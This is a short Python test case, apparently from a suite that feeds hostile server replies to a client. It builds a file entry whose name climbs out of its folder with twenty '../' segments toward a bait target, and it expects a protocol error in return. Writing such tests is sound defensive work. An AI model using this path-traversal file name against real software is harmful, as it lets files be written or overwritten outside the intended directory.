# Bring out files whose names lead out of their folder.
# expect: protocol
from attack_kit import BAIT, frame, reply, send

files = [{"name": "../" * 20 + BAIT["target"].lstrip("/"), "bytes": 4, "blob": [0, 4]}]
send(frame(reply(files=files), b"body"))
